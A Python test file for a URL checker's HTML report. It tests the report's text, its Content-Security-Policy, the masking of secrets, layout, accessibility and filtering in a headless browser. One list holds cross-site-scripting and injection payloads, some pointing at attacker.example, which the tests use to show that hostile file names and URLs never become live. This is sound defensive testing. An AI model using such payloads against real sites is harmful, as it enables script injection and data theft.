"""Test the HTML report: its text, and how a browser displays it."""

import base64
import hashlib
import html
import re
import tracemalloc
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests import command
from tests.browser import NAMES, Browser, find_browser
from tests.command import urlscan
from urlscan.core.document import Document
from urlscan.core.project import INDEX_PAGE, REPOSITORY
from urlscan.core.settings import Settings
from urlscan.formats.base import RenderOptions, RunInfo
from urlscan.formats.html_ import render
from urlscan.pipeline.check import check_source
from urlscan.pipeline.read import ReadOptions, Source

ONE = "See http://h.example/%zz and <http://h.example/a|b>.\n"


def check(cwd: Path, *arguments: str) -> command.Result:
    return urlscan("check", "--isolated", "--format", "html", *arguments, cwd=cwd, SOURCE_DATE_EPOCH="784111777")


def results_of(text: str, path: str = "a.txt") -> list[Document]:
    checked = check_source(Source(path, text.encode()), Settings(), ReadOptions())
    return [result for result in checked if isinstance(result, Document)]


def page_of(text: str, path: str = "a.txt") -> str:
    return "".join(render(results_of(text, path), RenderOptions()))


class Elements(HTMLParser):
    """The elements of a page: name and attributes of each, and the text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def all(self, tag: str, name: str) -> list[str]:
        return [attributes[name] or "" for found, attributes in self.found if found == tag and name in attributes]


# --- text


def test_the_summary_has_date_and_counts(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(ONE)
    (tmp_path / "b.txt").write_text("nothing")
    page = check(tmp_path, ".", "missing.txt")
    assert page.status == 2
    text = Elements(page.text).text
    assert "1994-11-06 08:49 UTC · 2 files read" in text
    assert re.search(r"2\s*errors\s*0\s*warnings\s*0\s*infos\s*1\s*file with findings", text)
    assert "missing.txt: No such file or directory" in text
    assert '<time datetime="1994-11-06T08:49:37Z">' in page.text


def test_the_indexes_list_rules_and_files(tmp_path: Path) -> None:
    for name in ("a.txt", "b.txt"):
        (tmp_path / name).write_text(ONE)
    elements = Elements(check(tmp_path, ".").text)
    links = elements.all("a", "href")
    assert links.count("#f1") == links.count("#f2") == 1
    ids = [attributes["id"] for _, attributes in elements.found if "id" in attributes]
    assert len(set(ids)) == len(ids)
    assert {link.removeprefix("#") for link in links if link.startswith("#")} <= set(ids)
    assert links.count(f"{REPOSITORY}/blob/main/docs/rules/U201.md") == 1 + 2
    assert "https://datatracker.ietf.org/doc/html/rfc3986#section-2.1" in links
    assert "Percent sign does not begin a valid escape" in elements.text


def test_every_link_is_ours(tmp_path: Path) -> None:
    name = "javascript:alert(1)&#58;.txt"
    (tmp_path / name).write_text("<javascript:alert(1)//|> http://h.example/a|b <http://attacker.example/|>\n")
    elements = Elements(check(tmp_path, "--select", "ALL", name).text)
    allowed = ("#", f"{REPOSITORY}/blob/main/docs/", "https://datatracker.ietf.org/doc/html/rfc")
    assert all(link.startswith(allowed) for link in elements.all("a", "href"))
    assert name in elements.text
    assert INDEX_PAGE in elements.all("a", "href")


def test_the_policy_allows_one_style_sheet_and_one_script() -> None:
    page = page_of(ONE)
    policy = re.search('Content-Security-Policy" content="(.*?)"', page)
    assert policy is not None
    for element in ("style", "script"):
        (content,) = re.findall(f"<{element}>(.*?)</{element}>", page, re.DOTALL)
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        assert f"{element}-src 'sha256-{digest}'" in policy[1]
    assert "unsafe" not in policy[1]
    assert policy[1].startswith("default-src 'none';")
    for _, attributes in Elements(page).found:
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "src", "srcset")]


def test_the_command_writes_the_page_as_it_was_rendered() -> None:
    """Workflow commands are escaped in all output, which would change the hash of the style sheet or the script."""
    done = urlscan("check", "--isolated", "--format", "html", stdin=ONE.encode(), SOURCE_DATE_EPOCH="0")
    content = re.findall("<(?:style|script)>.*?</(?:style|script)>", done.text, re.DOTALL)
    assert content == re.findall("<(?:style|script)>.*?</(?:style|script)>", page_of(ONE), re.DOTALL)


def test_report_without_findings_has_a_message() -> None:
    elements = Elements(page_of("http://h.example/\n"))
    assert "No findings" in elements.text
    assert "form" not in {tag for tag, _ in elements.found}


def test_a_suggestion_is_not_repeated() -> None:
    page = page_of(ONE)
    assert page.count("%25</code>") == 0  # the message contains it
    assert page.count("write <code>%7C</code>") == 1


def test_secrets_are_masked() -> None:
    page = page_of("See ftp://jo:s3cr3t-pw@ftp.mills.zz/%zz now.\n")
    assert "s3cr3t" not in page
    assert "ftp://jo:***@ftp.mills.zz/" in page


@pytest.mark.slow
def test_many_findings_wait_in_little_memory() -> None:
    """The buffer is compressed."""
    (result,) = results_of("é" + ONE)
    buffered = [result] * 2000
    for _ in render(iter(buffered), RenderOptions()):  # fills the caches
        pass
    render_all = render(iter(buffered), RenderOptions())
    tracemalloc.start()
    try:
        assert all(next(render_all) == "" for _ in buffered)
        used, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    page = "".join(render_all)
    assert page.count("<article ") == 4000
    assert used < len(page) / 4  # of which the compressor takes half
    assert page.count("é") == 4000


# --- in a browser

chromium = find_browser()
needs_browser = pytest.mark.skipif(chromium is None, reason=f"no browser: none of {', '.join(NAMES)} is installed")
FRAME = "new Promise(done => requestAnimationFrame(() => setTimeout(done)))"
OVERFLOW = "document.documentElement.scrollWidth - document.documentElement.clientWidth"


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    assert chromium is not None
    with Browser(chromium, tmp_path_factory.mktemp("profile")) as started:
        yield started


_RUN = "window.ran = (window.ran || 0) + 1"
_PAYLOADS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"<img src=x onerror='{_RUN}'>",
    f'"><svg onload="{_RUN}">',
    f"' autofocus onfocus='{_RUN}' x='",
    f"javascript:{_RUN}",
    f"<a href='javascript:{_RUN}' id=filters>x</a>",
    "<img src=http://attacker.example/pixel>",
    "<link rel=stylesheet href=http://attacker.example/style>",
    "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
    "<iframe src=http://attacker.example/frame></iframe>",
    "<base href=http://attacker.example/>",
    "<form id=filters action=http://attacker.example/><input name=text></form>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_RUN}",
    "<template><article class=error></article></template>",
    "</pre></article></section></main><article class=error>",
    "\u202e\u2066\u0000\u001b]0;x\u0007",
]


def hostile(directory: Path) -> None:
    """Write files whose names, texts and URLs try to become markup or script."""
    for number, payload in enumerate(_PAYLOADS):
        urls = (
            f"http://h.example/%zz{payload.replace(' ', '')}|b <http://h.example/{payload.replace('>', '')}> {payload}"
        )
        text = f"{payload} {urls} ftp://jo:{payload[:20].strip()}@ftp.mills.zz/ [x](http://h.example/`{payload}`)\n"
        name = re.sub(r"[/\0]", "_", payload)[:80]
        for kind in ("txt", "md", "html"):
            (directory / f"{number}{name}.{kind}").write_text(text)


@needs_browser
def test_nothing_in_hostile_data_becomes_live(tmp_path: Path, browser: Browser) -> None:
    data = tmp_path / "data"
    data.mkdir()
    hostile(data)
    done = check(tmp_path, "--select", "ALL", "data", "<script>window.ran = 1</script>")
    page = tmp_path / "report.html"
    page.write_bytes(done.out)
    browser.show(1280)
    browser.open(page)
    ours = browser.run("[...document.querySelectorAll('*')].map(one => one.localName)")
    assert set(ours) <= set(
        "html head meta title style body a header div p form input button select option label main section h1 h2 h3 ul"
        " li b span time code table thead tbody tr th td small article pre mark footer script".split()
    )
    assert ours.count("script") == ours.count("style") == ours.count("form") == ours.count("title") == 1
    assert ours.count("article") == done.text.count("<article ") > 100
    browser.run("document.forms[0].elements.text.value = '<script>'; document.forms[0].reset()")
    browser.run(
        f"(async () => {{ for (const one of document.querySelectorAll('button')) one.click(); await {FRAME} }})()"
    )
    assert browser.run("window.ran") is None
    assert browser.requests() == [page.as_uri()]
    assert browser.complaints() == []
    assert not [event for event in browser.events if event["method"] == "Page.javascriptDialogOpening"]
    assert browser.run("location.href").partition("#")[0] == page.as_uri()
    assert browser.run(OVERFLOW) == 0


@needs_browser
def test_the_browser_runs_scripts_and_sends_requests_that_are_let(tmp_path: Path, browser: Browser) -> None:
    """Otherwise the test above would prove nothing."""
    page = tmp_path / "page.html"
    page.write_text(f"<script>{_RUN}</script><img src=http://attacker.example/pixel>")
    browser.open(page)
    assert browser.run("window.ran") == 1
    assert "http://attacker.example/pixel" in browser.requests()


@needs_browser
def test_the_policy_stops_a_script_that_got_in(tmp_path: Path, browser: Browser) -> None:
    page = tmp_path / "page.html"
    attack = f"<script>{_RUN}</script><svg onload='{_RUN}'></svg><img src=http://attacker.example/pixel>"
    page.write_text(page_of(ONE).replace("<main", f"{attack}<main"))
    browser.open(page)
    assert browser.run("document.querySelector('svg') !== null")
    assert browser.run("window.ran") is None
    assert browser.run("document.getElementById('shown').textContent") == "2 findings"  # ours runs
    assert len(browser.complaints()) == 3
    assert not [event for event in browser.events if event["method"] == "Network.responseReceived"][1:]


def filtered(browser: Browser, change: str) -> tuple[float, str]:
    """Change a field of the filters; return the seconds until the page shows it, and how many findings it shows."""
    script = f"""(async () => {{
        const form = document.forms[0].elements, before = performance.now();
        const field = (() => {{ {change} }})();
        field.dispatchEvent(new Event("input", {{ bubbles: true }}));
        await new Promise(done => setTimeout(done, field.name === "text" ? 125 : 5));
        await {FRAME};
        return [performance.now() - before, document.getElementById("shown").textContent];
    }})()"""
    milliseconds, shown = browser.run(script)
    return milliseconds / 1000, shown


@needs_browser
def test_filters(tmp_path: Path, browser: Browser) -> None:
    (tmp_path / "a.md").write_text("[x](http://h.example/one|a) [y](http://h.example/%zz)\n")
    (tmp_path / "b.txt").write_text(
        "<http://h.example/two\n words> http://h.example:99999/ ftp://jo:secretpw@ftp.mills.zz/\n"
    )
    page = tmp_path / "report.html"
    page.write_bytes(check(tmp_path, "--select", "U101,U102,U201,U301,U302,U403", ".").out)
    browser.show(1280)
    browser.open(page)
    total = int(browser.run("document.querySelectorAll('article').length"))
    assert total > 3

    def shown() -> list[str]:
        visible = "[...document.querySelectorAll('article')].filter(one => one.offsetParent)"
        return browser.run(f"{visible}.map(one => one.dataset.rule)")

    assert filtered(browser, "form.rule.value = 'U101'; return form.rule")[1] == f"1 of {total} findings shown"
    assert shown() == ["U101"]
    assert browser.run("[...document.querySelectorAll('#files tbody tr')].map(one => one.hidden)") == [False, True]
    browser.run("document.getElementById('clear').click()")
    browser.run(FRAME)
    assert len(shown()) == total
    assert (
        filtered(browser, "form.text.value = 'B.TXT password'; return form.text")[1] == f"1 of {total} findings shown"
    )
    assert shown() == ["U301"]
    assert filtered(browser, "form.text.value = 'nowhere'; return form.text")[1] == f"0 of {total} findings shown"
    assert browser.run("document.getElementById('empty').offsetParent !== null")
    # A link to a hidden finding shows it.
    browser.run("location.hash = '#n1'")
    browser.run(FRAME)
    browser.run(FRAME)
    assert len(shown()) == total
    box = "[...document.querySelectorAll('[name=severity]')].find(one => one.value === 'error')"
    filtered(browser, f"const box = {box}; box.checked = false; return box")
    assert "U101" not in shown()
    filtered(browser, f"const box = {box}; box.checked = true; return box")
    filtered(browser, "form.fixable.checked = true; return form.fixable")
    assert "U101" in shown()
    assert len(shown()) < total


@needs_browser
@pytest.mark.parametrize("width", [1280, 768, 390, 320])
def test_nothing_scrolls_sideways(tmp_path: Path, browser: Browser, width: int) -> None:
    name = "very-long-name-" * 14
    (tmp_path / f"{name}.txt").write_text(
        f"http://h.example/{'a' * 300}|b {'日本' * 200} <http://h.example/{'b' * 500} c>\n"
    )
    page = tmp_path / "report.html"
    page.write_bytes(check(tmp_path, "--select", "ALL", ".").out)
    browser.show(width, 800)
    browser.open(page)
    assert browser.run(OVERFLOW) == 0
    wide = "[...document.querySelectorAll('article, td, h3, pre')].filter(one => one.scrollWidth > one.clientWidth + 1)"
    assert browser.run(f"{wide}.length") == 0
    if width < 900:
        browser.run("document.getElementById('toggle').click()")
        assert browser.run("document.getElementById('toggle').getAttribute('aria-expanded')") == "true"
        assert browser.run("document.forms[0].elements.rule.offsetParent !== null")
        assert browser.run(OVERFLOW) == 0


@needs_browser
def test_the_bar_stays_visible_and_hides_no_target(tmp_path: Path, browser: Browser) -> None:
    page = tmp_path / "report.html"
    page.write_text(page_of(ONE * 30))
    for width in (1280, 390):
        browser.show(width, 700)
        browser.open(page)
        browser.run("location.hash = '#n40'")
        browser.run(FRAME)
        bar = browser.run("document.getElementById('bar').getBoundingClientRect().toJSON()")
        target = browser.run("document.getElementById('n40').getBoundingClientRect().toJSON()")
        assert bar["top"] == 0
        assert target["top"] >= bar["bottom"]
        assert target["bottom"] <= 700


@needs_browser
def test_the_keyboard_reaches_search_filters_and_findings(tmp_path: Path, browser: Browser) -> None:
    page = tmp_path / "report.html"
    page.write_text(page_of(ONE))
    browser.show(1280)
    browser.open(page)
    seen = []
    for _ in range(14):
        browser.press("Tab", 9)
        seen.append(browser.run("(e => e.name || e.className || e.textContent)(document.activeElement)"))
    assert seen[:5] == ["skip", "text", "rule", "severity", "fixable"]
    assert "at" in seen
    outline = browser.run("getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid"


@needs_browser
@pytest.mark.parametrize("dark", [False, True])
def test_text_has_enough_contrast(tmp_path: Path, browser: Browser, dark: bool) -> None:
    """WCAG 2.2 section 1.4.3: a ratio of at least 4.5."""
    page = tmp_path / "report.html"
    page.write_text(page_of(f"{ONE}http://h.example:/ http://H.example/\n"))
    browser.show(1280, dark=dark)
    browser.open(page)
    pairs = browser.run(_COLORS)
    assert len(pairs) > 10
    assert {pair[2] for pair in pairs} >= {"mark", "small", "a", "b", "code", "th"}
    low = [(name, text, back) for text, back, name in pairs if contrast(text, back) < 4.5]
    assert low == []


_COLORS = """(() => {
    const found = new Map();
    for (const one of document.querySelectorAll("body *")) {
        if (!one.offsetParent || ![...one.childNodes].some(node => node.nodeType === 3 && node.data.trim())) continue;
        let back = one;
        while (getComputedStyle(back).backgroundColor === "rgba(0, 0, 0, 0)") back = back.parentElement;
        const pair = [getComputedStyle(one).color, getComputedStyle(back).backgroundColor, one.localName];
        found.set(pair.join(), pair);
    }
    return [...found.values()];
})()"""


def contrast(one: str, other: str) -> float:
    """Return the ratio of two colors in the syntax of CSS."""

    def luminance(color: str) -> float:
        parts = [int(part) / 255 for part in re.findall(r"\d+", color)[:3]]
        red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    low, high = sorted((luminance(one), luminance(other)))
    return (high + 0.05) / (low + 0.05)


@needs_browser
def test_without_scripts_everything_but_the_filters_is_there(tmp_path: Path, browser: Browser) -> None:
    page = tmp_path / "report.html"
    page.write_text(page_of(ONE))
    browser.call("Emulation.setScriptExecutionDisabled", value=True)
    try:
        browser.open(page)
    finally:
        browser.call("Emulation.setScriptExecutionDisabled", value=False)
    assert browser.run("document.getElementById('bar').offsetParent") is None
    assert browser.run("[...document.querySelectorAll('article')].filter(one => one.offsetParent).length") == 2


@pytest.mark.slow
@needs_browser
def test_20_000_findings_load_and_filter_quickly(tmp_path: Path, browser: Browser) -> None:
    (result,) = results_of("".join(f"Line {number}: <http://h{number}.example/a|b> and %zz\n" for number in range(400)))
    run = RunInfo()

    def results() -> Iterator[Document]:
        for number in range(50):
            path = f"docs/{number}.txt"
            document = result.with_findings([finding._replace(path=path) for finding in result.findings])
            document.path = path
            run.files += 1
            yield document

    page = tmp_path / "report.html"
    page.write_text("".join(render(results(), RenderOptions(run=run))))
    browser.show(1280)
    # 0.8 s and 0.1 s on a quiet machine; other programs may run here.
    assert browser.open(page) < 20
    assert browser.run("document.querySelectorAll('article').length") == 20_000
    assert browser.run("document.getElementById('shown').textContent") == "20,000 findings"
    times = []
    for text, expected in (("h399.example", "50"), ("docs/7.txt", "400"), ("", "20,000")):
        seconds, shown = filtered(browser, f"form.text.value = '{text}'; return form.text")
        assert shown.startswith(f"{expected} ")
        times.append(seconds)
    assert min(times) < 4


def test_escaped_text_is_what_was_there() -> None:
    text = "<URL:http://h.example/a&b\"'|c>"
    shown = [html.unescape(re.sub("<.*?>", "", one)) for one in re.findall("<pre>(.*?)</pre>", page_of(text))]
    assert shown[0] == text
